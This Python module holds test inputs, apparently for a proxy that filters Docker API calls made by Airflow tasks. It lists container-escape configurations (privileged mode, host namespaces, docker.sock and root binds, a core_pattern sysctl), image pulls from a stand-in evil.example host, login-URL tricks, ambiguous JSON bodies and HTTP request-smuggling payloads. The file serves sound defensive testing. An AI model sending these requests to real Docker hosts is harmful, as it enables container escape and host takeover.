"""What a task with full control may try: unit tests send it to a filter, and Molecule to the one on the host.

Nothing here needs more than the standard library.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

OWNER_LABEL = "airflow.dag-container"
IMAGE = "atddocker/etl:production"
HOST_CONFIG = {
    "NetworkMode": "default",
    "CpuShares": 1024,
    "LogConfig": {"Type": None, "Config": {}},
    "Mounts": [],
}


def operator(**fields: Any) -> dict[str, Any]:
    """Return what a DockerOperator sends, with other fields at top level."""
    document: dict[str, Any] = {
        **{"Tty": True, "OpenStdin": False, "StdinOnce": False, "AttachStdin": False},
        **{"AttachStdout": True, "AttachStderr": True, "NetworkDisabled": False, "Image": IMAGE},
        **{"Env": ["A=1"], "Cmd": ["python", "etl.py"], "HostConfig": dict(HOST_CONFIG)},
    }
    return {**document, **fields}


def host(**fields: Any) -> dict[str, Any]:
    """Return what a DockerOperator sends, with other fields of HostConfig."""
    return operator(HostConfig={**HOST_CONFIG, **fields})


def volume(**fields: Any) -> dict[str, Any]:
    """Return a mount of a listed volume."""
    return {"Type": "volume", "Source": "knack", "Target": "/data", "ReadOnly": False, **fields}


def bind(source: str) -> dict[str, Any]:
    return {"Type": "bind", "Source": source, "Target": "/tmp/airflow", "ReadOnly": False}


# Create requests, by the field that is refused and what is tried there.
DRIVER = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
ATTACKS: dict[str, dict[str, Any]] = {
    # The host.
    **{
        f"HostConfig.{name}": host(**{name: value})
        for name, value in {
            "Privileged": True,
            "Devices": [
                {"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}
            ],
            "DeviceCgroupRules": ["a *:* rwm"],
            "DeviceRequests": [{"Driver": "cdi", "DeviceIDs": ["vendor.com/device=all"]}],
            "CapAdd": ["ALL"],
            "SecurityOpt": ["seccomp=unconfined"],
            "MaskedPaths": [],
            "ReadonlyPaths": [],
            "Sysctls": {"kernel.core_pattern": "|/x"},
            "CgroupParent": "system.slice",
            "Runtime": "runc",
            "Annotations": {"a": "b"},
            "OomScoreAdj": -1000,
            "OomKillDisable": True,
            "PidsLimit": -1,
            "Ulimits": [{"Name": "nofile", "Soft": 1, "Hard": 1}],
            "RestartPolicy": {"Name": "always"},
            "GroupAdd": ["999"],
            "StorageOpt": {"size": "1T"},
            "NanoCpus": 10**12,
            "CpuQuota": -1,
            "MemorySwap": -1,
            "MemoryReservation": 1,
            "CpusetCpus": "0",
            "Init": True,
            "Isolation": "process",
            "ContainerIDFile": "/root/x",
            "ReadonlyRootfs": True,
            # Volumes.
            "VolumesFrom": ["airflow-postgres-1"],
            "VolumeDriver": "local",
            "Tmpfs": {"/proc": ""},
            # Namespaces and network.
            "PidMode": "host",
            "IpcMode": "host",
            "UTSMode": "host",
            "UsernsMode": "host",
            "CgroupnsMode": "host",
            "Links": ["airflow-postgres-1:db"],
            "ExtraHosts": ["db:127.0.0.1"],
            "Dns": ["127.0.0.1"],
            "DnsOptions": ["x"],
            "DnsSearch": ["x"],
            "PortBindings": {"80/tcp": [{"HostPort": "80"}]},
            "PublishAllPorts": True,
        }.items()
    },
    **{
        f"HostConfig.SecurityOpt {option}": host(SecurityOpt=[option])
        for option in ("apparmor=unconfined", "label=disable", "systempaths=unconfined", "no-new-privileges")
    },
    **{
        f"HostConfig.{name} of a container": host(**{name: "container:airflow-postgres-1"})
        for name in ("PidMode", "IpcMode", "UTSMode", "CgroupnsMode", "UsernsMode", "NetworkMode")
    },
    **{
        f"HostConfig.NetworkMode {mode}": host(NetworkMode=mode)
        for mode in ("host", "airflow_database", "ns:/proc/1/ns/net", "Bridge", "slirp4netns", "bridge ")
    },
    **{
        f"HostConfig.Binds {each}": host(Binds=[each])
        for each in (
            *(
                "/:/host",
                "/var/run/docker.sock:/s",
                "./x:/x",
                "~:/x",
                "airflow_postgres_data:/x",
                ":/x",
                "/x",
            ),
            *(
                "knack",
                "knack:/",
                "knack:/x/../proc",
                "knack:/proc",
                "knack:x",
                "knack:/x:z",
                "knack:/x:rw:ro",
            ),
        )
    },
    **{
        f"HostConfig.Mounts {name}": host(Mounts=[mount])
        for name, mount in {
            "bind": bind("/"),
            "socket": bind("/var/run/docker.sock"),
            "bind in another case": {**bind("/"), "Type": "Bind"},
            "anonymous": {"Type": "volume", "Target": "/x"},
            "without a type": {"Source": "knack", "Target": "/x"},
            "another volume": volume(Source="airflow_postgres_data"),
            "a path for a volume": volume(Source="/"),
            "a volume in another case": volume(Source="Knack"),
            "driver": volume(VolumeOptions={"DriverConfig": DRIVER}),
            "driver, anonymous": volume(Source="", VolumeOptions={"DriverConfig": DRIVER}),
            "block device": volume(
                VolumeOptions={"DriverConfig": {"Options": {"device": "/dev/sda", "type": "ext4"}}}
            ),
            "labels": volume(VolumeOptions={"Labels": {"a": "b"}}),
            "subpath": volume(VolumeOptions={"Subpath": "../x"}),
            "bind options": volume(BindOptions={"Propagation": "rshared"}),
            "tmpfs": {"Type": "tmpfs", "Target": "/proc"},
            "tmpfs options": volume(TmpfsOptions={"SizeBytes": 1}),
            "image": {"Type": "image", "Source": "airflow", "Target": "/x"},
            "cluster": {"Type": "cluster", "Source": "knack", "Target": "/x"},
            "npipe": {"Type": "npipe", "Source": "knack", "Target": "/x"},
            "consistency": volume(Consistency="cached"),
            **{
                f"target {target}": volume(Target=target)
                for target in (
                    *("/", "//", "", "x", "/proc", "/proc/", "/proc/sys", "/sys", "/dev", "/dev/shm"),
                    *("/x/../proc", "/./proc", "//proc", "/x/..", "/x//y", "/x\0y", "..", "/.."),
                )
            },
        }.items()
    },
    "HostConfig.LogConfig syslog": host(
        LogConfig={"Type": "syslog", "Config": {"syslog-address": "tcp://127.0.0.1:5432"}}
    ),
    "HostConfig.LogConfig fluentd": host(
        LogConfig={"Type": "fluentd", "Config": {"fluentd-address": "127.0.0.1:6379"}}
    ),
    **{
        f"HostConfig.LogConfig {name}": host(LogConfig={"Type": "json-file", "Config": config})
        for name, config in {
            "unlimited": {"max-size": "-1"},
            "nothing": {"max-size": "0"},
            "larger": {"max-size": "11m"},
            "more": {"max-file": "6"},
            "tag": {"tag": "{{.Name}}"},
            "a number": {"max-file": 2},
        }.items()
    },
    "HostConfig.Memory more": host(Memory=2**50),
    "HostConfig.Memory less than Docker takes": host(Memory=1),
    "HostConfig.Memory without a limit": host(Memory=-1),
    "HostConfig.ShmSize more": host(ShmSize=2**40),
    "HostConfig.CpuShares more": host(CpuShares=10**6),
    # Top level.
    "Volumes": operator(Volumes={"/data": {}}),
    "Volumes with something in them": operator(Volumes={"/data": {"a": 1}}),
    "NetworkingConfig": operator(NetworkingConfig={"EndpointsConfig": {"airflow_database": {}}}),
    "MacAddress": operator(MacAddress="02:42:ac:11:00:02"),
    "ExposedPorts": operator(ExposedPorts={"80/tcp": {}}),
    "Healthcheck": operator(Healthcheck={"Test": ["CMD", "x"]}),
    "Domainname": operator(Domainname="x"),
    "StopSignal": operator(StopSignal="SIGKILL"),
    "Shell": operator(Shell=["x"]),
    "OnBuild": operator(OnBuild=["x"]),
    "Platform": operator(Platform="linux/arm64"),
    "OpenStdin": operator(OpenStdin=True),
    "StdinOnce": operator(StdinOnce=True),
    "AttachStdin": operator(AttachStdin=True),
    "NetworkDisabled": operator(NetworkDisabled=True),
    "Labels of Compose": operator(Labels={"com.docker.compose.project": "airflow"}),
    "Labels of the owner": operator(Labels={OWNER_LABEL: "true"}),
    "Labels of the platform": operator(Labels={"airflow-platform.role": "worker"}),
    **{
        f"WorkingDir {place}": operator(WorkingDir=place)
        for place in (
            "/proc/self/fd/8",
            "/proc",
            "/dev/fd/8",
            "/sys",
            "x",
            "../x",
            "/x/../proc/self/fd/8",
            "//proc",
        )
    },
    "User": operator(User="0:0:0"),
    "User with a line": operator(User="a\nb"),
    "Hostname": operator(Hostname="a b"),
    # Images.
    **{
        f"Image {image}": operator(Image=image)
        for image in (
            *(
                "alpine",
                "atddocker/a/b:1",
                "atddocker",
                "airflow-platform/airflow:1",
                "127.0.0.1:5000/atddocker/x",
            ),
            *(
                "evil.example/atddocker/x",
                "ghcr.io/city/etl:latest",
                "ghcr.io/city/etl",
                "localhost/atddocker/x",
            ),
            *(
                "sha256:" + "0" * 64,
                "0" * 64,
                "beef",
                "atddocker/x@sha256:1",
                "atddocker/x:a:b",
                "ATDDOCKER/x",
            ),
            *("", "atddocker/", "atddocker/../x", "atddocker/x:", "atddocker/x y", "https://atddocker/x"),
            "ghcr.io/city/etl:production@sha256:" + "0" * 64,
        )
    },
    # Fields of HostConfig where Docker 26 looks for them, too.
    "HostConfig absent": {"Image": IMAGE, "Privileged": True},
    "HostConfig null": {"Image": IMAGE, "Privileged": True, "HostConfig": None},
    "HostConfig null, with binds": {"Image": IMAGE, "Binds": ["knack:/x"], "HostConfig": None},
    # Keys in another case, and with letters that Go takes for others.
    "lower case": {**operator(), "hostconfig": {"Privileged": True}},
    "lower case within": host(privileged=True),
    "long s": {**operator(), "Ho\u017ftConfig": {"Privileged": True}},
    "Kelvin": host(**{"Net\u212aorkMode": "host"}),
    "null in another case": {**operator(), "hostconfig": None},
    # Types.
    "no image": {"HostConfig": {}},
    **{
        f"type of {name} {value!r}": operator(**{name: value})
        for name, value in [
            *(("Image", 1), ("Image", ["x"]), ("Cmd", {"a": 1}), ("Cmd", [1]), ("Cmd", True), ("Env", "A=1")),
            *(
                ("Env", {"A": "1"}),
                ("Env", [None]),
                ("Tty", 1),
                ("Tty", "true"),
                ("User", 0),
                ("Labels", ["a"]),
            ),
            *(
                ("Labels", {"a": 1}),
                ("HostConfig", []),
                ("HostConfig", "x"),
                ("WorkingDir", 0),
                ("WorkingDir", []),
            ),
            *(
                ("Env", ["A=\0"]),
                ("Env", ["A=\ud800"]),
                ("Volumes", []),
                ("ExposedPorts", []),
                ("Hostname", {}),
            ),
        ]
    },
    **{
        f"type of HostConfig.{name} {value!r}": host(**{name: value})
        for name, value in [
            *(("Memory", "1"), ("Memory", True), ("CpuShares", [1]), ("Mounts", {}), ("Mounts", ["x"])),
            *(("Mounts", [None]), ("Binds", "x"), ("Binds", [1]), ("LogConfig", []), ("NetworkMode", 1)),
            *(("PortBindings", []), ("Ulimits", {}), ("AutoRemove", "true")),
        ]
    },
}


# Bodies that two readers could read in two ways.
GOOD = json.dumps(operator())
DOCUMENTS: dict[str, str | bytes] = {
    "repeated key": f'{{"Image": "{IMAGE}", "HostConfig": {{}}, "HostConfig": {{"Privileged": true}}}}',
    "repeated key within": f'{{"Image": "{IMAGE}", "HostConfig": {{"Memory": 7000000, "Memory": 0}}}}',
    "repeated key, escaped": (
        f'{{"Image": "{IMAGE}", "HostConfig": {{}}, "\\u0048ostConfig": {{"Privileged": true}}}}'
    ),
    "trailing bracket": GOOD + "}",
    "second document": GOOD + GOOD,
    "trailing text": GOOD + "x",
    "NUL after it": GOOD + "\0",
    "byte order mark": "\ufeff" + GOOD,
    "UTF-16": GOOD.encode("utf-16"),
    "UTF-16 without a mark": GOOD.encode("utf-16-le"),
    "UTF-32": GOOD.encode("utf-32"),
    "invalid UTF-8": GOOD.replace("A=1", "A=\xff").encode("latin-1"),
    "overlong UTF-8": GOOD.encode().replace(b"A=1", b"A=\xc0\xaf"),
    "surrogates in UTF-8": GOOD.encode().replace(b"A=1", b"\xed\xa0\x80"),
    "half a pair": GOOD.replace("A=1", "\\ud800"),
    "NaN": GOOD.replace("1024", "NaN"),
    "Infinity": GOOD.replace("1024", "-Infinity"),
    "a fraction": GOOD.replace("1024", "1024.0"),
    "an exponent": GOOD.replace("1024", "1e3"),
    "many digits": GOOD.replace("1024", "9" * 20),
    "very many digits": GOOD.replace("1024", "9" * 100_000),
    "deep nesting": "[" * 100_000,
    "deep nesting of objects": '{"a":' * 100_000,
    "deep nesting that ends": GOOD.replace('["A=1"]', "[" * 900 + "]" * 900),
    "a control character": GOOD.replace("A=1", "A=\n"),
    "single quotes": GOOD.replace('"', "'"),
    "a comment": GOOD.replace("{", "{/**/", 1),
    "a trailing comma": GOOD[:-1] + ",}",
    "nothing": "",
    "blanks": "  ",
    "a list": f"[{GOOD}]",
    "null": "null",
    "text": '"x"',
}


QUERIES = [
    *(
        "name=ab&name=cd",
        "name=airflow-redis-1",
        "name=%2Fairflow-redis-1",
        "name=airflow_x",
        "name=",
        "name",
    ),
    *(
        "name=a b",
        "name=a%20b",
        "name=a%00",
        "name=a;b=c",
        "platform=linux",
        "Name=a",
        "fromSrc=-",
        "name=..",
        "&",
    ),
    *("name=ab&%6eame=cd", "n%61me=ab&name=cd", "name=%ff"),
]
"""Of a create request."""

CONTENT_TYPES = [
    None,
    "",
    "text/plain",
    "application/x-www-form-urlencoded",
    "application/json; charset=utf-16",
    "application/jsonx",
]
"""Of a create request; None for no header."""

PULLS = [
    *(
        "",
        "fromSrc=-&repo=airflow-platform/airflow&tag=1",
        "fromSrc=http://evil.example/x.tar&repo=atddocker/x",
    ),
    *(
        "fromImage=atddocker/x&fromSrc=-",
        "fromImage=127.0.0.1:5000/atddocker/x&tag=1",
        "fromImage=localhost/x",
    ),
    *("fromImage=atddocker/x&repo=airflow", "fromImage=atddocker/x&changes=CMD+x", "fromImage=alpine"),
    *(
        "fromImage=atddocker/x&fromImage=evil/x",
        "fromImage=atddocker/x:1&tag=2",
        "fromImage=atddocker/x&tag=a/b",
    ),
    *(
        "fromImage=atddocker/x&platform=linux",
        "FromImage=atddocker/x",
        "fromImage=atddocker/x&all=1",
        "tag=1",
    ),
    *(
        "fromImage=airflow-platform/airflow&tag=1",
        "fromImage=atddocker/x&tag=a;b",
        "fromImage=atddocker/x%00",
    ),
]
"""Queries of `images/create`."""

LOGINS = [
    *(
        "127.0.0.1:5000",
        "http://127.0.0.1",
        "localhost",
        "https://[::1]/",
        "https://ghcr.io@127.0.0.1/",
        "http://",
    ),
    *(
        "https://127.0.0.1/ghcr.io",
        "https://ghcr.io:5000",
        "https://ghcr.io#@127.0.0.1",
        "ghcr.io\n",
        "",
        "unix:///x",
    ),
    *(
        "https://evil.example",
        "https://ghcr.io?x",
        "https://ghcr.io.evil.example",
        "postgres:5432",
        "//127.0.0.1",
    ),
]
"""Addresses of registries that no inventory lists."""

FOREIGN = "airflow-postgres-1"

REFUSED = [
    *(
        ("POST", f"/containers/{FOREIGN}/{verb}")
        for verb in ("exec", "update", "rename?name=x", "pause", "restart")
    ),
    *(
        ("POST", f"/containers/{FOREIGN}/{verb}")
        for verb in ("attach/ws", "export", "commit", "unpause", "checkpoints")
    ),
    *(
        ("GET", f"/containers/{FOREIGN}/{verb}")
        for verb in ("export", "attach/ws", "changes", "top", "stats", "attach")
    ),
    *(("PUT", f"/containers/{FOREIGN}/archive?path=/"), ("HEAD", f"/containers/{FOREIGN}/archive?path=/")),
    *(
        ("POST", "/containers/prune"),
        ("POST", "/commit?container=x"),
        ("POST", "/exec/x/start"),
        ("GET", "/exec/x/json"),
    ),
    *(("POST", "/build"), ("POST", "/build?remote=x"), ("POST", "/build/prune"), ("POST", "/images/load")),
    *(
        ("POST", "/images/atddocker/x/tag?repo=airflow"),
        ("POST", "/images/atddocker/x/push"),
        ("GET", "/images/get"),
    ),
    *(("DELETE", "/images/atddocker/x"), ("POST", "/images/prune"), ("GET", "/images/search?term=x")),
    *(("GET", "/images/atddocker/x/history"), ("GET", "/distribution/atddocker/x/json")),
    *(("GET", "/volumes"), ("POST", "/volumes/create"), ("DELETE", "/volumes/x"), ("POST", "/volumes/prune")),
    *(
        ("GET", "/networks"),
        ("POST", "/networks/create"),
        ("POST", "/networks/x/connect"),
        ("DELETE", "/networks/x"),
    ),
    *(("GET", "/swarm"), ("POST", "/swarm/init"), ("GET", "/services"), ("GET", "/tasks"), ("GET", "/nodes")),
    *(("GET", "/secrets"), ("GET", "/configs"), ("GET", "/plugins"), ("POST", "/plugins/pull?remote=x")),
    *(
        ("POST", "/session"),
        ("POST", "/grpc"),
        ("GET", "/events"),
        ("GET", "/system/df"),
        ("GET", "/debug/vars"),
    ),
    *(("GET", "/libpod/info"), ("GET", "/v4.0.0/libpod/info"), ("POST", "/libpod/containers/create")),
    *(
        ("POST", "/info"),
        ("GET", "/infos"),
        ("GET", "/info/"),
        ("GET", "/info/more"),
        ("GET", "/auth"),
        ("GET", "/"),
    ),
    *(
        ("DELETE", "/containers"),
        ("CONNECT", "/info"),
        ("OPTIONS", "/info"),
        ("TRACE", "/info"),
        ("GET", "/metrics"),
    ),
    # Paths that another reader could take for one of the table's.
    *(
        ("GET", "//info"),
        ("GET", "/v1.41//info"),
        ("GET", "/./info"),
        ("GET", "/v1.41/../info"),
        ("GET", "/info%20"),
    ),
    *(("POST", "/x/../containers/create"), ("POST", "/containers/%63reate"), ("POST", "/containers//create")),
    *(("GET", "/containers/%2e%2e/info"), ("GET", "/containers/../info"), ("GET", "/containers/x%2fjson")),
    *(("GET", "/v1.41/volumes?/containers/json"), ("GET", "/info;x"), ("GET", "/info#x"), ("GET", "/Info")),
    *(
        ("GET", "/v1.18/info"),
        ("GET", "/v1.40/info"),
        ("GET", "/v1.99/info"),
        ("GET", "/v2.41/info"),
        ("GET", "/v1/info"),
    ),
    *(("GET", "/v1.041/info"), ("GET", "/v1.41.0/info"), ("GET", "/v1.41x/info"), ("GET", "/V1.41/info")),
    # Parameters.
    *(("GET", "/info?x=1"), ("GET", "/_ping?x"), ("GET", "/version?=1")),
    *(
        ("GET", "/containers/json?filters={}&filters={}"),
        ("GET", "/containers/json?filters=x"),
        ("GET", "/containers/json?all=2"),
    ),
    *(
        ("GET", '/containers/json?filters={"label":{"x":true}}'),
        ("GET", '/containers/json?filters={"network":["x"]}'),
    ),
    *(
        ("GET", '/containers/json?filters={"Label":["x"]}'),
        ("GET", '/containers/json?filters={"label":[],"label":[]}'),
    ),
    *(
        ("GET", "/containers/json?since=x"),
        ("GET", "/containers/json?before=x"),
        ("GET", "/containers/json?limit=x"),
    ),
    *(
        ("GET", '/images/json?filters={"label":["x"]}'),
        ("GET", "/images/json?filter=x"),
        ("GET", "/images/json?x=1"),
    ),
]


PARAMETERS = [
    *("start?checkpoint=x", "start?checkpoint-dir=/", "start?detachKeys=x", "start?x=1"),
    *(
        "wait?condition=x",
        "wait?condition=removed&condition=removed",
        "stop?t=x",
        "stop?t=1&t=2",
        "stop?t=1e3",
    ),
    *("attach?stdin=1", "attach?detachKeys=x", "attach?stream=2"),
    *("kill?signal=a b", "kill?signal=%00", "kill?Signal=9", "resize?h=-1", "resize?h=99999999"),
]
"""Of requests for an own container."""

FOREIGN_FILTERS: list[dict[str, list[str]]] = [
    {"label": ["com.docker.compose.project=airflow"]},
    {"label": [OWNER_LABEL, "com.docker.compose.project=airflow"]},
    {"label": [f"{OWNER_LABEL}=other"]},
    {"name": [FOREIGN]},
    {"name": [""]},
    {"status": ["running", "exited", "created"]},
]
"""Filters of a list that ask for containers of others: what is listed has the owner's label all the same."""


CREATE = json.dumps(operator()).encode()
EVIL = b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"


def post(
    headers: str,
    body: bytes = CREATE,
    target: str = "/v1.41/containers/create",
    kind: str | None = "application/json",
) -> bytes:
    """Return a request with this content type, None for no header."""
    typed = "" if kind is None else f"Content-Type: {kind}\r\n"
    return f"POST {target} HTTP/1.1\r\nHost: x\r\n{typed}{headers}\r\n".encode() + body


def listed_by(filters: dict[str, list[str]]) -> bytes:
    """Return the request for a list by these filters."""
    query = urlencode({"all": 1, "filters": json.dumps(filters)})
    return plain(f"GET /v1.41/containers/json?{query}", "Connection: close")


def plain(line: str, *headers: str) -> bytes:
    """Return a request without a body."""
    return "\r\n".join([f"{line} HTTP/1.1", "Host: x", *headers, "", ""]).encode()


UPGRADE = ("Connection: Upgrade", "Upgrade: tcp")
LENGTH = f"Content-Length: {len(CREATE)}\r\n"
MALFORMED = {
    "chunked": post("Transfer-Encoding: chunked\r\n", b"%x\r\n%s\r\n0\r\n\r\n" % (len(CREATE), CREATE)),
    "length and chunked": post(f"{LENGTH}Transfer-Encoding: chunked\r\n"),
    "chunked in another case": post(f"{LENGTH}transfer-encoding: Chunked\r\n"),
    "identity": post(f"{LENGTH}Transfer-Encoding: identity\r\n"),
    "two lengths": post(f"{LENGTH}Content-Length: 0\r\n"),
    "two equal lengths": post(LENGTH + LENGTH),
    "two lengths in one": post(f"Content-Length: {len(CREATE)}, {len(CREATE)}\r\n"),
    "signed length": post(f"Content-Length: +{len(CREATE)}\r\n"),
    "hexadecimal length": post("Content-Length: 0x10\r\n"),
    "length with an underscore": post("Content-Length: 1_0\r\n"),
    "empty length": post("Content-Length:\r\n"),
    "two content types": post(f"{LENGTH}Content-Type: text/plain\r\n"),
    "compressed": post(f"{LENGTH}Content-Encoding: gzip\r\n"),
    "expectation": post(f"{LENGTH}Expect: 100-continue\r\n"),
    "too large": post("Content-Length: 1153434\r\n", b"{" + b" " * 1153433),
    "pipelined": b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n" + EVIL,
    "pipelined after a create": post(LENGTH) + EVIL,
    "in the body of a start": post(f"Content-Length: {len(EVIL)}\r\n", EVIL, "/containers/own/start"),
    "in the body of a ping": b"GET /_ping HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(EVIL)
    + EVIL,
    "bare line feeds": b"GET /_ping HTTP/1.1\nHost: x\n\n",
    "bare line feed in the headers": b"GET /_ping HTTP/1.1\r\nHost: x\nX: y\r\n\r\n",
    "bare carriage return": b"GET /_ping HTTP/1.1\r\nHost: x\rX: y\r\n\r\n",
    "folded header": b"GET /_ping HTTP/1.1\r\nHost: x\r\n y\r\n\r\n",
    "blank before the colon": b"GET /_ping HTTP/1.1\r\nHost : x\r\n\r\n",
    "header without a colon": b"GET /_ping HTTP/1.1\r\nHost\r\n\r\n",
    "NUL in a header": b"GET /_ping HTTP/1.1\r\nHost: x\0\r\n\r\n",
    "empty name": b"GET /_ping HTTP/1.1\r\n: x\r\n\r\n",
    "HTTP/1.0": b"GET /_ping HTTP/1.0\r\nHost: x\r\n\r\n",
    "HTTP/0.9": b"GET /_ping\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "absolute URI": b"GET http://docker/_ping HTTP/1.1\r\nHost: x\r\n\r\n",
    "two blanks": b"GET  /_ping HTTP/1.1\r\nHost: x\r\n\r\n",
    "tab": b"GET\t/_ping HTTP/1.1\r\nHost: x\r\n\r\n",
    "line before": b"\r\nGET /_ping HTTP/1.1\r\nHost: x\r\n\r\n",
    "lower case": b"get /_ping HTTP/1.1\r\nHost: x\r\n\r\n",
    "non-ASCII target": "GET /_ping\u00e4 HTTP/1.1\r\nHost: x\r\n\r\n".encode(),
    "h2c": plain("GET /_ping", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c"),
    "upgrade of a GET": plain("GET /containers/own/json", *UPGRADE) + EVIL,
    "upgrade of a GET, alone": plain("GET /info", *UPGRADE),
    "upgrade of a start": plain("POST /containers/own/start", "Upgrade: tcp", "Content-Length: 0"),
    "attach to h2c": plain("POST /containers/own/attach", "Upgrade: h2c", "Content-Length: 0"),
    "attach to a websocket": plain("POST /containers/own/attach", "Upgrade: websocket"),
    "blanks in a malformed header": b"GET /_ping HTTP/1.1\r\nHost: x\r\nX:" + b" " * 30_000 + b"\0\r\n\r\n",
    "many headers": b"GET /_ping HTTP/1.1\r\nHost: x\r\n"
    + b"".join(b"X%d: y\r\n" % n for n in range(100))
    + b"\r\n",
    "large headers": b"GET /_ping HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 40_000 + b"\r\n\r\n",
}


def on_the_wire(image: str = IMAGE, volume: str = "knack") -> dict[str, bytes]:
    """Return each of the above as a task sends it, with an image and a volume that the inventory lists."""

    def body(document: Any) -> bytes:
        text = document if isinstance(document, (str, bytes)) else json.dumps(document)
        data = text.encode() if isinstance(text, str) else text
        return data.replace(IMAGE.encode(), image.encode()).replace(b"knack", volume.encode())

    def sent(document: Any, target: str, kind: str | None = "application/json") -> bytes:
        data = body(document)
        return post(f"Content-Length: {len(data)}\r\n", data, target, kind)

    create = "/v1.41/containers/create"
    pull = f"/v1.41/images/create?{urlencode({'fromImage': image})}"
    form = "application/x-www-form-urlencoded"
    return {
        **{f"create {name}": sent(document, create) for name, document in ATTACKS.items()},
        **{f"body {name}": sent(document, create) for name, document in DOCUMENTS.items()},
        **{f"content type {kind}": sent(operator(), create, kind) for kind in CONTENT_TYPES},
        **{f"create?{query}": sent(operator(), f"{create}?{query}") for query in QUERIES},
        **{f"pull {query}": sent("", f"/v1.41/images/create?{query}") for query in PULLS},
        "pull with a form": sent("fromImage=evil/x", pull, form),
        **{f"login {each}": sent({"serveraddress": each}, "/v1.41/auth") for each in LOGINS},
        **{f"{method} {target}": plain(f"{method} {target}") for method, target in REFUSED},
        **{f"own {each}": sent("", f"/v1.41/containers/own/{each}") for each in PARAMETERS},
        **MALFORMED,
    }
